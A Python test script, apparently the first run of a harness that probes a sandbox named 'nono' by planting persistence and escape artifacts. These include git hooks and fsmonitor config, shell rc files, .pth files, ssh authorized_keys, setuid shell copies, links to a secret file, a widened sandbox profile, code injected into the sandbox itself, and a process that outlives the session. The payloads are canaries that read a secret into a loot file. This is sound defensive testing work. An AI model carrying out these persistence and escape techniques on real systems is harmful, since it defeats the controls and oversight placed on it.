"""The first of two runs: leaves behind what might run, or be believed, after it.

Arguments: a seed, how many acts, a directory outside the sandbox in which whatever runs outside
leaves its name, a secret file outside, and directories that hold nono's own code. It works in the
current directory and in $HOME, and prints what it could do.
"""

import contextlib
import os
import random
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator

SEED, COUNT, MARKS, SECRET, *OWN_CODE = sys.argv[1:]
WORK, HOME = os.getcwd(), os.environ["HOME"]
CHANCE = random.Random(int(SEED))
ACTS: dict[str, Callable[[], object]] = {}


def shell(name: str) -> str:
    """A command that shows that it ran: outside by a mark, in a later run by the secret."""
    return f"touch {MARKS}/{name}; cat {SECRET} >> {WORK}/loot 2>/dev/null"


def python(name: str) -> str:
    return f"import os; os.system({shell(name)!r})\n"


def put(path: str, text: str, mode: int = 0o755) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, mode)


def append(path: str, text: str) -> None:
    with open(path, "a") as file:
        file.write(text)


def planted() -> Iterator[tuple[str, str]]:
    """Files that programs outside read or run by themselves, and what is in them."""
    for hook in ("post-checkout", "pre-commit", "post-commit", "post-index-change"):
        yield f"{WORK}/.git/hooks/{hook}", f"#!/bin/sh\n{shell('hook-' + hook)}\n"
    for base in (WORK, HOME):
        yield f"{base}/.envrc", shell("envrc")
        yield f"{base}/.vimrc", f"silent !{shell('vimrc')}\n"
        yield f"{base}/.exrc", f"silent !{shell('exrc')}\n"
        yield f"{base}/.tmux.conf", f'run-shell "{shell("tmux-conf")}"\n'
        script = f"{base}/.npm-shell"
        yield script, f"#!/bin/sh\n{shell('npm-shell')}\n"
        yield f"{base}/.npmrc", f"script-shell={script}\n"
        yield f"{base}/.vscode/tasks.json", "{}"
        yield f"{base}/.claude/settings.json", "{}"
        yield f"{base}/.local/bin/git", f"#!/bin/sh\n{shell('local-bin')}\n"
    for name in (".bashrc", ".bash_profile", ".profile", ".bash_login", ".bash_logout"):
        yield f"{HOME}/{name}", f"{shell('bash-' + name)}\n"
    yield f"{HOME}/.inputrc", '"x": "y"\n'
    yield f"{HOME}/.gitconfig", f"[core]\nfsmonitor = {shell('gitconfig')}\n"
    yield f"{HOME}/.config/git/config", f"[core]\nfsmonitor = {shell('xdg-gitconfig')}\n"
    yield f"{HOME}/.config/tmux/tmux.conf", f'run-shell "{shell("xdg-tmux")}"\n'
    site = f"{HOME}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    yield f"{site}/usercustomize.py", python("usercustomize")
    yield f"{site}/planted.pth", python("pth")
    yield f"{HOME}/.ssh/authorized_keys", "ssh-ed25519 AAAA planted\n"
    yield f"{HOME}/.ssh/config", f"ProxyCommand {shell('ssh')}\n"
    yield f"{HOME}/.config/nono/profiles/agent.json", '{"filesystem": {"read": ["/"]}}'
    yield f"{HOME}/.config/nono/profiles/default.json", '{"filesystem": {"read": ["/"]}}'
    yield f"{HOME}/.local/state/nono/planted", "x"
    for place in OWN_CODE:
        yield f"{place}/sitecustomize.py", python("sitecustomize")
        yield f"{place}/nono/supervisor/report/run.py", python("own-code")
        yield f"{place}/planted.pth", python("own-pth")


for _path, _text in planted():
    ACTS[f"plant {_path}"] = lambda path=_path, text=_text: put(path, text)


def act(function: Callable[[], object]) -> Callable[[], object]:
    ACTS[function.__name__] = function
    return function


def git_config(text: str) -> Callable[[], object]:
    return lambda: append(f"{WORK}/.git/config", text)


ACTS["fsmonitor"] = git_config(f'\n[core]\n\tfsmonitor = "{shell("fsmonitor")}"\n')
ACTS["hooksPath"] = git_config(f"\n[core]\n\thooksPath = {WORK}/hooks\n")
ACTS["pager"] = git_config(f'\n[core]\n\tpager = "{shell("pager")}"\n')
ACTS["alias"] = git_config(f'\n[alias]\n\tst = "!{shell("alias")}"\n')
ACTS["include"] = git_config(f"\n[include]\n\tpath = {WORK}/included\n")
ACTS["filter"] = git_config(f'\n[filter "x"]\n\tclean = "{shell("filter")}; cat"\n')


@act
def attributes_that_name_a_filter() -> None:
    put(f"{WORK}/.gitattributes", "* filter=x\n", 0o644)
    put(f"{WORK}/included", f'[core]\n\tfsmonitor = "{shell("included")}"\n', 0o644)
    put(f"{WORK}/hooks/post-commit", f"#!/bin/sh\n{shell('hooks-path')}\n")


@act
def config_by_git_itself() -> None:
    for key in ("core.fsmonitor", "core.sshCommand", "core.editor", "diff.external"):
        command = ["git", "config", key, shell(key.replace(".", "-"))]
        subprocess.run(command, check=False, capture_output=True)


@act
def config_put_in_place() -> None:
    put(f"{WORK}/.git/config.new", f'[core]\n\tfsmonitor = "{shell("renamed")}"\n')
    os.rename(f"{WORK}/.git/config.new", f"{WORK}/.git/config")


@act
def a_repository_in_place_of_the_repository() -> None:
    os.rename(f"{WORK}/.git", f"{WORK}/.git-old")
    shutil.copytree(f"{WORK}/.git-old", f"{WORK}/.git")
    append(f"{WORK}/.git/config", f'\n[core]\n\tfsmonitor = "{shell("replaced")}"\n')


@act
def a_file_in_place_of_the_repository() -> None:
    shutil.copytree(f"{WORK}/.git", f"{WORK}/evil")
    append(f"{WORK}/evil/config", f'\n[core]\n\tfsmonitor = "{shell("gitfile")}"\n')
    shutil.rmtree(f"{WORK}/.git")
    put(f"{WORK}/.git", f"gitdir: {WORK}/evil\n")


@act
def hooks_in_place_of_the_hooks() -> None:
    os.rename(f"{WORK}/.git/hooks", f"{WORK}/.git/hooks-old")
    put(f"{WORK}/.git/hooks/post-commit", f"#!/bin/sh\n{shell('new-hooks')}\n")


@act
def a_link_as_hooks() -> None:
    put(f"{WORK}/hooks/post-commit", f"#!/bin/sh\n{shell('linked-hooks')}\n")
    shutil.rmtree(f"{WORK}/.git/hooks", ignore_errors=True)
    os.symlink(f"{WORK}/hooks", f"{WORK}/.git/hooks")


@act
def results_that_are_a_link_out() -> None:
    shutil.rmtree(f"{WORK}/out", ignore_errors=True)
    os.symlink(os.path.dirname(SECRET), f"{WORK}/out")


@act
def results_that_are_a_link_up() -> None:
    shutil.rmtree(f"{WORK}/out", ignore_errors=True)
    os.symlink("../..", f"{WORK}/out")


@act
def a_link_to_the_secret() -> None:
    os.symlink(SECRET, f"{WORK}/notes.txt")


@act
def a_hard_link_to_the_secret() -> None:
    os.link(SECRET, f"{WORK}/hard.txt")


@act
def an_environment_that_claims_the_home() -> None:
    base = os.path.dirname(SECRET)
    put(f"{WORK}/.venv/pyvenv.cfg", f"home = {base}/bin\n", 0o644)
    os.makedirs(f"{WORK}/.venv/bin", exist_ok=True)
    os.symlink("/usr/bin/python3", f"{WORK}/.venv/bin/python")


@act
def an_environment_that_claims_a_link() -> None:
    os.symlink(os.path.dirname(SECRET), f"{WORK}/base")
    put(f"{WORK}/.venv/pyvenv.cfg", f"home = {WORK}/base/bin\n", 0o644)


@act
def a_shell_with_set_id() -> None:
    shutil.copyfile("/bin/sh", f"{WORK}/shell")
    os.chmod(f"{WORK}/shell", 0o6755)


@act
def a_file_born_with_set_id() -> None:
    os.umask(0)
    os.close(os.open(f"{WORK}/born", os.O_CREAT | os.O_WRONLY, 0o4755))
    os.umask(0o022)


@act
def a_socket_for_tmux() -> None:
    place = f"/tmp/tmux-{os.getuid()}"
    os.mkdir(place, 0o700)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"{place}/default")
        listener.listen()


@act
def names_that_others_trust() -> None:
    for name in (f".s.PGSQL.{os.getuid()}", f"emacs{os.getuid()}", f"krb5cc_{os.getuid()}"):
        with contextlib.suppress(OSError):
            put(f"/tmp/{name}", "planted", 0o600)


@act
def a_process_that_stays() -> None:
    later = f"sleep 0.3; {shell('stayed')}; {shell('stayed')} > {WORK}/.git/hooks/post-commit"
    subprocess.Popen(["setsid", "sh", "-c", later], stdin=subprocess.DEVNULL)


@act
def a_module_of_the_projects() -> None:
    put(f"{WORK}/nono/__init__.py", python("project-nono"), 0o644)
    put(f"{WORK}/msgpack.py", python("project-msgpack"), 0o644)


@act
def a_pipe_where_a_file_was() -> None:
    with contextlib.suppress(FileNotFoundError):
        os.unlink(f"{WORK}/README")
    os.mkfifo(f"{WORK}/README")


def main() -> None:
    for name in CHANCE.sample(sorted(ACTS), min(int(COUNT), len(ACTS))):
        try:
            ACTS[name]()
            print(name, "DONE", sep="\t")
        except OSError as error:
            print(name, error.strerror, sep="\t")


if __name__ == "__main__":
    main()
